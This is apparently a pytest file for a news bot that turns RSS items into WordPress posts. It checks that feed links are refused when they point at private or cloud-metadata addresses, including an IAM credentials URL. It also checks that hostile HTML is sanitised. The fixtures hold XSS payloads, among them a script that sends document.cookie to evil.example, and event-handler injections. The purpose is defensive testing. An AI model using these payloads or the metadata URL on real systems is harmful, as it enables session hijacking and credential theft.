"""What a feed may make the bot fetch (issue 5 §7) and store or post (§6).

Feed URLs written in bot.toml are the operator's and may be private; URLs
found INSIDE a feed are the feed's, and may not reach the bot's own network
unless `[fetch] allow_private` says so. Cloud metadata addresses never.
HTML from a feed or the model is cleaned to an allowlist before it is stored
and before it is posted.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.faults.harness import CLOSINGS, SOURCE, BotProcess, WireStory, good_answer, rss
from tests.servers.llm import ScriptedLLM, answer
from tests.servers.web import Reply, WebServer
from tests.wordpress.conftest import LocalWordPress

METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
# The first paragraph of the Grenoble story only: short enough that the bot
# wants the article page to say more.
SUMMARY = SOURCE["text"].split("\n\n")[0]
PAGE = (
    "<html><body><article>"
    + "".join(f"<p>{p}</p>" for p in SOURCE["text"].split("\n\n"))
    + "</article></body></html>"
)


def summary_item(guid: str, link: str, closing: int) -> WireStory:
    """A short item; its own closing line keeps dedup from merging two of them."""
    text = f"<p>{SUMMARY}</p><p>{CLOSINGS[closing]}</p>"
    return WireStory(guid, f"{SOURCE['title']} ({guid})", link, text)


def bot_for(make_config, llm: ScriptedLLM, feeds: list[str], allow_private: bool) -> BotProcess:
    llm.default = good_answer
    config = make_config(
        feeds=[{"url": url} for url in feeds],
        llm={"base_url": llm.base_url, "attempts": 1, "timeout": 20},
        fetch={"allow_private": allow_private, "timeout": 3},
    )
    return BotProcess(config, {"OPENAI_API_KEY": "sk-test-throwaway"})


def prompts(llm: ScriptedLLM) -> str:
    return json.dumps([call["messages"] for call in llm.calls], ensure_ascii=False)


def test_links_inside_a_feed_never_reach_private_or_metadata_addresses(
    make_config, llm: ScriptedLLM, web_server: WebServer
):
    web_server.route("/page", Reply(body=PAGE, headers={"Content-Type": "text/html"}))
    stories = [
        summary_item("loopback", web_server.url + "/page", 0),
        summary_item("cloud", METADATA, 1),
    ]
    feed = web_server.route("/rss", Reply(body=rss(stories)))  # on 127.0.0.1: trusted
    bot = bot_for(make_config, llm, [feed], allow_private=False)

    done = bot.run_here("run", "--once")

    assert done.returncode == 0, done.stderr
    assert web_server.hits("/rss") == 1 and web_server.hits("/page") == 0
    assert f"article page {web_server.url}/page: refused to connect to 127.0.0.1" in done.stderr
    assert f"article page {METADATA}: refused to connect to 169.254.169.254" in done.stderr
    # Both stories went on with the feed's own summary.
    rows = bot.stories()
    assert [row["source_text"] for row in rows] == [
        f"{SUMMARY}\n\n{CLOSINGS[0]}",
        f"{SUMMARY}\n\n{CLOSINGS[1]}",
    ]
    assert all(row["state"] not in ("new", "failed") for row in rows)
    assert prompts(llm).count(SUMMARY[:80]) >= 2


def test_allow_private_opens_the_wire_but_never_the_metadata_address(
    make_config, llm: ScriptedLLM, web_server: WebServer
):
    web_server.route("/page", Reply(body=PAGE, headers={"Content-Type": "text/html"}))
    stories = [
        summary_item("wire", web_server.url + "/page", 0),
        summary_item("cloud", METADATA, 1),
    ]
    feed = web_server.route("/rss", Reply(body=rss(stories)))
    bot = bot_for(make_config, llm, [feed, "http://169.254.169.254/feed.xml"], allow_private=True)

    done = bot.run_here("run", "--once")

    assert done.returncode == 0, done.stderr
    assert web_server.hits("/page") == 1  # a local wire's page, allowed by the setting
    assert f"article page {METADATA}: refused to connect to 169.254.169.254" in done.stderr
    feeds = {feed["url"]: feed for feed in bot.status()["feeds"]}
    metadata_feed = feeds["http://169.254.169.254/feed.xml"]
    assert metadata_feed["last_error"].startswith("refused to connect to 169.254.169.254")
    wire, cloud = bot.stories()
    assert len(wire["source_text"].split()) > len(SUMMARY.split())  # read from the page
    assert cloud["source_text"] == f"{SUMMARY}\n\n{CLOSINGS[1]}"


HOSTILE_HTML = (
    "<p>Le conseil municipal a voté le plan.<script>fetch('//evil.example/?c='"
    "+document.cookie)</script></p>"
    "<style>body{background:url(//evil.example/PWNED-style)}</style>"
    '<iframe src="https://evil.example/PWNED-iframe"></iframe>'
    '<form action="https://evil.example/PWNED-form"><input name="PWNED-input"></form>'
    '<p onclick="PWNED_onclick()">Les travaux commenceront cet été.</p>'
    '<p><a href="javascript:PWNED_js()">Lire la délibération</a></p>'
    '<p><img src="x" onerror="PWNED_onerror()"><svg onload="PWNED_svg()"></svg></p>'
)
FORBIDDEN = (
    "<script",
    "document.cookie",
    "<style",
    "PWNED",
    "<iframe",
    "<form",
    "<input",
    "onclick",
    "onerror",
    "javascript:",
    "<svg",
    "onload",
)


def assert_nothing_hostile(text: str, where: str) -> None:
    found = [marker for marker in FORBIDDEN if marker.lower() in text.lower()]
    assert not found, f"{where}: {found}"


def serve_hostile_story(llm: ScriptedLLM, web_server: WebServer) -> str:
    """A feed whose one story carries hostile HTML, and a model whose draft does too."""
    story = WireStory(
        "hostile",
        SOURCE["title"],
        "https://wire.example/hostile",
        "".join(f"<p>{p}</p>" for p in SOURCE["text"].split("\n\n")) + HOSTILE_HTML,
    )
    draft = json.loads(good_answer().content or "{}")
    draft["body_html"] += HOSTILE_HTML.replace("<p>Le conseil municipal a voté le plan.", "<p>")
    llm.script(answer(json.dumps(draft, ensure_ascii=False)))
    return web_server.route("/rss", Reply(body=rss([story])))


def assert_stored_clean(bot: BotProcess) -> dict:
    (row,) = bot.stories()
    assert "Les travaux commenceront cet été." in row["source_text"]  # the text is kept
    assert_nothing_hostile(row["source_text"], "stories.source_text")
    assert_nothing_hostile(row["title"], "stories.title")
    assert row["state"] == "published"
    return row


def test_hostile_html_from_the_feed_and_the_model_is_stored_and_posted_clean(
    make_config, llm: ScriptedLLM, web_server: WebServer, tmp_path: Path
):
    feed = serve_hostile_story(llm, web_server)
    bot = bot_for(make_config, llm, [feed], allow_private=True)

    done = bot.run_here("run", "--once")

    assert done.returncode == 0, done.stderr
    assert_stored_clean(bot)
    # The drafts; not the outbox's index of names (.stories/).
    files = sorted(path for path in (tmp_path / "outbox").glob("*.*") if path.is_file())
    assert {path.suffix for path in files} == {".json", ".html"}
    for path in files:
        text = path.read_text(encoding="utf-8")
        # The outbox page has its own stylesheet; only the article must be clean.
        article = text.split("<article>", 1)[1] if path.suffix == ".html" else text
        assert_nothing_hostile(article, path.name)


@pytest.mark.wordpress
def test_hostile_html_never_reaches_wordpress(
    make_config, llm: ScriptedLLM, web_server: WebServer, empty_site: LocalWordPress
):
    """An editor account may post any HTML (unfiltered_html): the bot must clean it."""
    feed = serve_hostile_story(llm, web_server)
    llm.default = good_answer
    config = make_config(
        feeds=[{"url": feed}],
        llm={"base_url": llm.base_url, "attempts": 1, "timeout": 20},
        publish={"target": "wordpress"},
        wordpress={"url": empty_site.url, "user": empty_site.user, "timeout": 20},
    )
    env = {"OPENAI_API_KEY": "sk-test-throwaway", "DEPECHE_WP_APP_PASSWORD": empty_site.password}
    bot = BotProcess(config, env)

    done = bot.run_here("run", "--once")

    assert done.returncode == 0, done.stderr
    row = assert_stored_clean(bot)
    post = empty_site.post(row["post_id"])
    assert "<h2>" in post["content"]["raw"]  # the article is there, cleaned
    for field in ("title", "content", "excerpt"):
        assert_nothing_hostile(post[field]["raw"], f"post {field}")
    assert_nothing_hostile(json.dumps(post["meta"], ensure_ascii=False), "post meta")
